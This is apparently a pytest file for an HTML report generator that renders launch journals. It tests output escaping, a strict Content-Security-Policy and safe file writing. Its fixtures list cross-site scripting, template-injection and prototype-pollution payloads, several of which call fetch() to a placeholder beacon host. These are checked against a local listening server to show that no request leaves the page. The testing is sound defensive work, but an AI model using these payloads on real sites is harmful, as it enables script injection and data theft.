from __future__ import annotations

import base64
import hashlib
import json
import os
import re
import resource
import shutil
import subprocess
import threading
from dataclasses import replace
from datetime import UTC, datetime
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from greenroom import Spec
from greenroom._launch import _events as events
from greenroom._launch._account import Account
from greenroom._launch._figures import figures
from greenroom._launch._journal_tables import Header
from greenroom._states import Verdict
from greenroom.cli import main
from greenroom.cli.report._page import as_html

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

HOSTILE = "</script><script>document.title='taken'</script><!--<img src=x onerror=1>"

BREAKING_OUT = (
    "</script><script>fetch('BEACON/script')</script>",
    "</script><script src=BEACON/src.js></script>",
    "<img src=BEACON/img onerror=fetch('BEACON/onerror')>",
    "\"><svg onload=fetch('BEACON/svg')>",
    "' autofocus onfocus='fetch(\"BEACON/onfocus\")' x='",
    "</style><style>@import 'BEACON/import.css';*{background:url(BEACON/background)}</style>",
    "</title></noscript></canvas><script>fetch('BEACON/title')</script>",
    "<iframe src=\"javascript:fetch('BEACON/javascript')\"></iframe>",
    "<iframe srcdoc=\"<script>fetch('BEACON/srcdoc')</script>\"></iframe>",
    "<link rel=stylesheet href=BEACON/link.css><link rel=prefetch href=BEACON/prefetch>",
    "<object data=BEACON/object></object><embed src=BEACON/embed>",
    "<video src=BEACON/video autoplay></video><audio src=BEACON/audio autoplay></audio>",
    "<form id=f action=BEACON/form></form><script>f.submit()</script>",
    "<base href=BEACON/><script src=base.js></script>",
    "<svg><image href=BEACON/image /><use href=BEACON/use#a /></svg>",
    '<div style="background:url(BEACON/style)">',
    "<b id=data>{}</b><b id=timeline></b>",
)
"""What would run, or ask for something, if it were more than a text. BEACON stands for a server."""

ODD = (
    *("<meta http-equiv=refresh content='0;url=BEACON/refresh'>", "javascript:fetch('BEACON/url')"),
    *(
        "__proto__",
        "constructor",
        "toString",
        "{{ 7 * 7 }}",
        "{% raw %}",
        "${7*7}",
        "\\u003cb\\u003e",
    ),
    *("<!--<script>", "]]>", "<![CDATA[", "</textarea><plaintext>", "&lt;b&gt;", "&#60;b&#62;"),
    *(
        "\u2028alert(1)\u2029",
        "\x00\x1b[2J\x9b",
        "\ud800",
        "\u202egnp.exe",
        "x" * 300_000,
        "\"'`\\",
    ),
)
"""More of what a text may hold."""


class Page(HTMLParser):
    """What a page holds: the text and the attributes of its title and of whatever has an id."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.attributes: dict[str, dict[str, str | None]] = {}
        self.texts: dict[str, str] = {}
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self._inside: str | None = None
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        attributes = dict(attrs)
        self.tags.append((tag, attributes))
        self._inside = attributes.get("id") or ("title" if tag == "title" else None)
        if self._inside:
            self.attributes[self._inside] = attributes

    def handle_data(self, data: str) -> None:
        if self._inside:
            self.texts[self._inside] = self.texts.get(self._inside, "") + data

    def handle_endtag(self, tag: str) -> None:
        self._inside = None


def html_of(launch: Any) -> str:
    return as_html(figures(launch.header, launch.account()), "run.db")


def hostile() -> Account:
    account = Account("launch", [Spec(key=f"ws {HOSTILE}", launch_profile_id="lp")])
    at = _at(0)
    key = next(iter(account.lines))
    account.take(events.LaunchBegan(at=at, resumed=False))
    account.take(events.CreateIntended(at=at, key=key, attempt=1, token="t", choice={}))
    account.take(events.Created(at=_at(1), key=key, attempt=1, id=HOSTILE))
    account.take(
        events.Changed(at=_at(2), key=key, id=HOSTILE, before=None, after=HOSTILE, reason=None)
    )
    account.take(
        events.Settled(
            at=_at(9),
            key=key,
            verdict=Verdict.FAILURE,
            id=HOSTILE,
            state=HOSTILE,
            reason=HOSTILE,
            message=f"{HOSTILE} \ud800\x00 {'long ' * 200}",
            elapsed=9.0,
            reads=1,
            cause=HOSTILE,
        )
    )
    return account


def taken_apart(texts: tuple[str, ...]) -> str:
    """Return the page of a launch in which every text of others is one of these."""
    account = Account(texts[0], [Spec(key=text, launch_profile_id="lp") for text in texts])
    told: list[events.LaunchEvent] = [events.LaunchBegan(at=_at(0), resumed=False)]
    for text in texts:
        told += [
            events.CreateIntended(at=_at(0), key=text, attempt=1, token=text, choice={text: text}),
            events.Created(at=_at(1), key=text, attempt=1, id=text),
            events.Changed(
                at=_at(2), key=text, id=text, before=None, after=text, reason=text, message=text
            ),
            events.AttemptFailed(at=_at(3), key=text, attempt=1, id=text, cause=text, message=text),
            events.CreateIntended(at=_at(4), key=text, attempt=2, token=text, choice={"a": text}),
            events.Created(at=_at(5), key=text, attempt=2, id=text),
            events.Changed(at=_at(6), key=text, id=text, before=text, after=f"{text}2"),
            events.Settled(
                at=_at(9),
                key=text,
                verdict=Verdict.FAILURE,
                id=text,
                state=text,
                reason=text,
                message=text,
                elapsed=9.0,
                reads=1,
                cause=text,
                advice=text,
            ),
        ]
    ready = f"ready {texts[-1][:50]}"
    account.lines[ready] = type(account.lines[texts[0]])(Spec(key=ready, launch_profile_id="lp"))
    told += [
        events.CreateIntended(at=_at(0), key=ready, attempt=1, token="t", choice={"a": texts[1]}),
        events.Created(at=_at(1), key=ready, attempt=1, id="s-1"),
        events.Changed(at=_at(2), key=ready, id="s-1", before=None, after="READY"),
        replace(told[-1], key=ready, verdict=Verdict.SUCCESS, cause=None, advice=None),
        events.CreatesHeld(at=_at(9), cause=texts[1], message=" ".join(texts)[:4000]),
        events.CreatesStopped(at=_at(9), cause=texts[1], message=texts[2]),
        events.Metered(at=_at(9), calls=3, changes=2, throttled=1),
    ]
    for event in told:
        account.take(event)
    header = Header(texts[0], _at(0), {"studio_id": texts[3]}, place=texts[3])
    return as_html(figures(header, account), texts[4])


def structure(text: str) -> list[tuple[str, tuple[str, ...]]]:
    return [(tag, tuple(attributes)) for tag, attributes in Page(text).tags]


def _at(second: int) -> datetime:
    return datetime(2024, 3, 1, 12, 0, second, tzinfo=UTC)


def test_the_numbers_are_there_without_a_script(imagine: Callable[..., Any]) -> None:
    text = html_of(imagine(count=300))
    page = Page(text)
    assert page.texts["succeeded"] == "291"
    assert page.texts["total"] == "300"
    assert page.texts["unready"] == "9"
    assert page.texts["left"] == "23"
    assert page.texts["median"] == "4 min 01 s"
    assert page.texts["outcomes"] == "291 succeeded, 9 failed of 300."
    assert "Let the studio use the key that the streaming image is encrypted with." in text
    for key in ("ws-041", "ws-093", "ws-123", "ws-270"):
        assert f'<th scope="row">{key}</th>' in text
    assert "&lt;b&gt;while&lt;/b&gt; it was made." in text


def test_the_data_of_the_timeline(imagine: Callable[..., Any]) -> None:
    data = json.loads(Page(html_of(imagine(count=300))).texts["data"])
    assert len(data["rows"]) == 300
    assert [name for name, _ in data["states"]][:3] == ["creating", "CREATE_IN_PROGRESS", "READY"]
    assert dict(data["states"])["CREATE_FAILED"] == "failed"


def test_nothing_outside_the_page_is_asked_for(imagine: Callable[..., Any]) -> None:
    text = html_of(imagine(count=300))
    assert not re.search(r"\w+://|url\(|@import", text)
    for _, attributes in Page(text).tags:
        assert not {"src", "srcset", "action", "data", "style"} & set(attributes)
        assert (attributes.get("href") or "#").startswith("#")


def test_only_the_pages_own_script_may_run(imagine: Callable[..., Any]) -> None:
    text = html_of(imagine(count=3))
    policy = next(
        attributes["content"] or ""
        for tag, attributes in Page(text).tags
        if attributes.get("http-equiv") == "Content-Security-Policy"
    )
    assert policy.startswith("default-src 'none'; ")
    assert "unsafe" not in policy
    directives = dict(each.split(" ", 1) for each in policy.split("; "))
    assert directives.keys() == {
        *("default-src", "script-src", "style-src", "base-uri", "form-action"),
        *("require-trusted-types-for", "trusted-types"),
    }
    assert directives["base-uri"] == directives["form-action"] == "'none'"
    for tag in ("style", "script"):
        (inline,) = re.findall(rf"<{tag}>(.*?)</{tag}>", text, re.DOTALL)
        digest = base64.b64encode(hashlib.sha256(inline.encode()).digest()).decode()
        assert f"{tag}-src 'sha256-{digest}'" in policy


def test_the_secret_of_a_stream_is_not_in_it(imagine: Callable[..., Any]) -> None:
    launch = imagine(count=30)
    account = launch.account()
    assert any(line.stream and line.stream.url for line in account.lines.values())
    assert "stream.example" not in as_html(figures(launch.header, account), "run.db")


def test_hostile_texts_stay_texts() -> None:
    text = as_html(figures(Header("launch", _at(0)), hostile()), f"run.db; {HOSTILE}")
    page = Page(text)
    assert [tag for tag, _ in page.tags].count("script") == 2
    assert "img" not in [tag for tag, _ in page.tags]
    assert json.loads(page.texts["data"])["rows"][0][0] == f"ws {HOSTILE}"
    assert "long ..." in text
    text.encode()


def test_no_text_of_others_changes_what_a_page_is_made_of() -> None:
    bad = (*BREAKING_OUT, *ODD)
    good = tuple(f"text-{number:02}" for number in range(len(bad)))
    text = taken_apart(bad)
    assert structure(text) == structure(taken_apart(good))
    assert len(text.encode()) < 400_000
    assert not re.search(
        r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]", text
    )
    rows = json.loads(Page(text).texts["data"])["rows"]
    assert [row[0] for row in rows[: len(BREAKING_OUT)]] == list(BREAKING_OUT)
    text.encode()


@pytest.mark.parametrize(
    "options",
    [
        {"count": 12},
        {"count": 40, "break_at": 20},
        {"count": 40, "break_at": 200, "ends": False},
        {"count": 40, "break_at": 100, "resumes_after": 40_000},
    ],
)
def test_every_course_has_a_page(imagine: Callable[..., Any], options: dict[str, Any]) -> None:
    text = html_of(imagine(**options))
    assert len(json.loads(Page(text).texts["data"])["rows"]) == options["count"]
    assert ("--resume" in text) == ("break_at" in options and "resumes_after" not in options)


def test_a_launch_that_never_began_has_a_page(imagine: Callable[..., Any]) -> None:
    launch = imagine(count=3)
    text = as_html(figures(launch.header, Account("launch", launch.specs)), "run.db")
    assert "written down, and never begun" in text
    assert "No workstation is ready." in text
    assert "No calls were noted." in text


def test_three_thousand_workstations_are_light(imagine: Callable[..., Any]) -> None:
    assert len(html_of(imagine(count=3000, rate=8.0)).encode()) < 1_000_000


def test_the_page_is_written(
    journal: Callable[..., Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path, target = journal(count=12), tmp_path / "run.html"
    target.write_text("an old one")
    assert main(["report", str(path), "--html", str(target)]) == 0
    printed = capsys.readouterr()
    assert not printed.out
    assert str(target) in printed.err
    assert target.read_text("utf-8").startswith("<!doctype html>")
    assert not list(tmp_path.glob("*-new"))


def test_a_device_stays_a_device(journal: Callable[..., Path]) -> None:
    assert main(["report", str(journal(count=3)), "--html", os.devnull]) == 0
    assert not Path(os.devnull).is_file()


@pytest.mark.parametrize("name", ["nowhere/run.html", "."])
def test_a_page_that_cannot_be_written(
    journal: Callable[..., Path], tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str
) -> None:
    assert main(["report", str(journal(count=3)), "--html", str(tmp_path / name)]) == 2
    assert "cannot write" in capsys.readouterr().err
    assert not list(tmp_path.glob("*-new"))


def test_a_full_device_is_told(
    journal: Callable[..., Path], capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["report", str(journal(count=3)), "--html", "/dev/full"]) == 2
    assert "cannot write /dev/full: No space left on device" in capsys.readouterr().err


def test_a_page_for_which_there_is_no_room_leaves_the_old_one(
    journal: Callable[..., Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path, target = journal(count=3), tmp_path / "run.html"
    target.write_text("an old one")
    room = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (1000, room[1]))
    try:
        assert main(["report", str(path), "--html", str(target)]) == 2
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, room)
    assert f"cannot write {target}: File too large" in capsys.readouterr().err
    assert target.read_text() == "an old one"
    assert not list(tmp_path.glob("*-new"))


def test_the_journal_is_not_written_over(
    journal: Callable[..., Path], capsys: pytest.CaptureFixture[str]
) -> None:
    path = journal(count=3)
    before = path.read_bytes()
    assert main(["report", str(path), "--html", str(path)]) == 2
    assert "the journal itself" in capsys.readouterr().err
    assert path.read_bytes() == before


@pytest.fixture
def browse(tmp_path: Path) -> Callable[..., Page]:
    """Opens a page in a real browser, and returns it as it is once its script has run."""
    browser = shutil.which("chromium")
    if browser is None:
        if os.environ.get("CI"):
            pytest.fail("needs chromium")
        pytest.skip("needs chromium")

    def browse(text: str, chosen: str = "") -> Page:
        file = tmp_path / "run.html"
        file.write_text(text, encoding="utf-8")
        ran = subprocess.run(
            [
                browser,
                *("--headless", "--no-sandbox", "--disable-gpu", "--disable-quic"),
                *("--no-first-run", "--disable-background-networking"),
                *("--disable-component-update", "--disable-sync"),
                *(f"--user-data-dir={tmp_path / 'profile'}", "--virtual-time-budget=5000"),
                *("--window-size=1400,1000", "--dump-dom", f"{file.as_uri()}{chosen}"),
            ],
            capture_output=True,
            timeout=120,
            check=True,
        )
        return Page(ran.stdout.decode())

    return browse


def test_a_browser_draws_three_hundred(
    imagine: Callable[..., Any], browse: Callable[..., Page]
) -> None:
    page = browse(html_of(imagine(count=300)))
    assert "data-error" not in page.tags[0][1]
    assert page.attributes["timeline"]["data-drawn"] == "300"
    assert page.attributes["timeline"]["data-shown"] == "300"
    assert page.texts["shown"] == "300 workstations"
    assert page.texts["succeeded"] == "291"
    assert page.texts["calls"].isdigit()


def test_a_browser_finds_some_of_three_thousand(
    imagine: Callable[..., Any], browse: Callable[..., Page]
) -> None:
    launch = imagine(count=3000, rate=8.0, break_at=300, resumes_after=40_000)
    page = browse(html_of(launch), "#find=WS-12&sort=cause&view=rows")
    assert "data-error" not in page.tags[0][1]
    assert page.texts["shown"] == "100 of 3000 workstations"
    assert page.attributes["timeline"]["data-shown"] == "100"
    assert 20 <= int(page.attributes["timeline"]["data-drawn"] or 0) <= 40  # those in sight


@pytest.fixture
def beacon() -> Iterator[tuple[str, list[str]]]:
    """A server that remembers what is asked for: its URL, and the paths."""
    heard: list[str] = []

    class Listening(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append(self.path)
            self.send_response(200)
            self.end_headers()

        def log_message(self, *_: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Listening) as server:
        thread = threading.Thread(target=server.serve_forever, args=(0.01,))
        thread.start()
        yield f"http://127.0.0.1:{server.server_port}", heard
        server.shutdown()
        thread.join()


def test_a_browser_runs_nothing_that_is_not_ours(
    browse: Callable[..., Page], beacon: tuple[str, list[str]]
) -> None:
    url, heard = beacon
    texts = tuple(text.replace("BEACON", url) for text in (*BREAKING_OUT, *ODD))
    page = browse(taken_apart(texts), "#sort=__proto__&view=%3Cb%3E&find=%22%3E%3Cimg%20src=x%3E")
    assert "data-error" not in page.tags[0][1]
    assert page.texts["shown"] == f"0 of {len(texts) + 1} workstations"
    page = browse(taken_apart(texts), "#sort=cause&view=rows")
    assert "data-error" not in page.tags[0][1]
    assert page.attributes["timeline"]["data-shown"] == str(len(texts) + 1)
    assert heard == []


@pytest.mark.parametrize("policy", [True, False], ids=["with-its-policy", "without"])
def test_the_policy_holds_where_escaping_fails(
    imagine: Callable[..., Any],
    browse: Callable[..., Page],
    beacon: tuple[str, list[str]],
    policy: bool,
) -> None:
    """Without the policy the same page asks the server: so this would notice if it did."""
    url, heard = beacon
    text = html_of(imagine(count=3))
    if not policy:
        text, removed = re.subn(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", text)
        assert removed == 1
    page = text.replace("</main>", f"{''.join(BREAKING_OUT[:-1])}</main>".replace("BEACON", url))
    browse(page)
    if policy:
        assert heard == []
    else:
        ways = {path.strip("/") for path in heard}
        assert ways >= {"script", "src.js"}, ways
        assert len(ways) > 5, ways
